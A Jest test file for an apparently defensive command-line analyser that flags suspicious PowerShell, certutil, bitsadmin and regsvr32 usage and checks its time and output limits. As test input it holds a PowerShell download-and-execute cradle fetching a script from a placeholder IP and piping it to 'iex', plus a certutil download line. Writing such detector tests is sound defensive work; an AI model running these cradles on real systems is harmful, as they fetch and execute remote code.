import { analyzeCommand } from '../../../src/domain/command-analysis';
import { MAX_ANALYSED_CHARS, MAX_IOCS_PER_KIND, limitsNote } from '../../../src/domain/command-analysis/analysis-limits';

const utf16b64 = (s: string) => Buffer.from(s, 'utf16le').toString('base64');

function timed<T>(f: () => T): { value: T; ms: number } {
  const start = performance.now();
  const value = f();
  return { value, ms: performance.now() - start };
}

describe('command analysis within its budget', () => {
  // The shapes that were quadratic: every `powershell` rescanned every later token and kept every
  // finding (2.1 s and 400 MB for the -nop one at 32 KB before the fix; 12.9 s for the issue's). A
  // generous bound, so only the old algorithm's order of growth can fail it on a loaded machine.
  test.each([
    ['powershell ', 'powershell '.repeat(2979)],
    ['powershell -nop ', 'powershell -nop '.repeat(2048)],
    ['powershell -w hidden ', 'powershell -w hidden '.repeat(1560)],
    ['powershell -enc <payload> ', `powershell -enc ${utf16b64('IEX x')} `.repeat(900)],
    ['certutil (no -urlcache) ', 'certutil '.repeat(3640)],
    ['bitsadmin (no /transfer) ', 'bitsadmin '.repeat(3276)],
    ['regsvr32 (no /i:) ', 'regsvr32 '.repeat(3640)],
  ])('the once-quadratic shape %s×n at 32,767 characters takes well under a second', (_name, repeated) => {
    const commandLine = repeated.slice(0, 32_767);
    const { value, ms } = timed(() => analyzeCommand(commandLine));
    expect(ms).toBeLessThan(1000);
    expect(value.findings.length).toBeLessThanOrEqual(8);
  });

  test('repeated switches give each finding once', () => {
    const r = analyzeCommand('powershell -nop -w hidden '.repeat(500));
    expect(r.findings.map((f) => f.id)).toEqual(['hidden-window', 'no-profile']);
    expect(r.limits).toBeUndefined();
  });

  test('a 1 MB command line: the first 64 KB are analysed, and the analysis says so', () => {
    const head = 'powershell -ep bypass -c "Invoke-WebRequest http://203.0.113.45/a.ps1 | iex" ';
    const tail = ' certutil -urlcache -f http://late.example.com/x';
    const commandLine = head + 'A'.repeat(1024 * 1024 - head.length - tail.length) + tail;
    const r = analyzeCommand(commandLine);
    expect(r.findings.map((f) => f.id)).toEqual(['execution-policy-bypass', 'download-cradle', 'invoke-expression', 'download-and-execute']);
    expect(r.iocs.urls).toEqual(['http://203.0.113.45/a.ps1']); // the late URL is past the analysed part
    expect(r.limits).toEqual({ analysedChars: MAX_ANALYSED_CHARS, totalChars: commandLine.length, findingsOmitted: 0, iocsOmitted: 0 });
    expect(limitsNote(r.limits)).toBe('analysed the first 64 KB of 1,024 KB');
  });

  test('IOCs are capped per kind, and the omitted ones counted', () => {
    const ips = Array.from({ length: 150 }, (_, i) => `10.0.${i >> 8}.${i & 255}`);
    const r = analyzeCommand(`cmd /c ping ${ips.join(' ')}`);
    expect(r.iocs.ips).toEqual(ips.slice(0, MAX_IOCS_PER_KIND));
    expect(r.limits?.iocsOmitted).toBe(50);
    expect(limitsNote(r.limits)).toBe('50 more IOCs not shown');
  });

  test('limitsNote: nothing cut, nothing said', () => {
    expect(limitsNote(undefined)).toBeUndefined();
    expect(limitsNote({ analysedChars: 10, totalChars: 10, findingsOmitted: 3, iocsOmitted: 1 })).toBe('3 more findings not shown; 1 more IOC not shown');
  });
});
